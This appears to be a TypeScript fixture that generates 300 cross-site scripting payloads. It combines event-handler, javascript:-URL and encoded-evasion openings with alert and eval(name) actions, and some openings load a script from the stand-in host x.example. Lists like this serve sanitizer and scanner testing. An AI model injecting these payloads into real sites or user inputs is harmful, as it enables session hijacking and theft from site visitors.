const openings = [
  '<script>',
  '<SCRIPT SRC=//x.example/x.js>',
  '<img src=x onerror=',
  '<svg onload=',
  '<svg/onload=',
  '<body onload=',
  '<iframe src=javascript:',
  '<a href="javascript:',
  '<a href="JaVaScRiPt:',
  '<a href=" &#14; javascript:',
  '<b onclick=',
  '<strong onmouseover=',
  '<br onfocus=',
  '<math><mtext></mtext><script>',
  '<details open ontoggle=',
  '<input autofocus onfocus=',
  '<marquee onstart=',
  '<object data=javascript:',
  '<embed src=javascript:',
  '<form action=javascript:',
  '<a href="data:text/html,<script>',
  "<a href='https://x.example' onclick=",
  '<style>@import "//x.example"',
  '<link rel=stylesheet href=//x.example ',
  '<meta http-equiv=refresh content="0;url=javascript:',
] as const

const acts = [
  'alert(1)',
  'alert`1`',
  '&#97;lert(1)',
  '\\u0061lert(1)',
  'top["al"+"ert"](1)',
  'eval(name)',
] as const

const endings = ['>', '"></script>'] as const

/** 300 texts that a careless page runs. */
export const xssPayloads: readonly string[] = openings.flatMap((opening) =>
  acts.flatMap((act) => endings.map((ending) => `${opening}${act}${ending}`)),
)
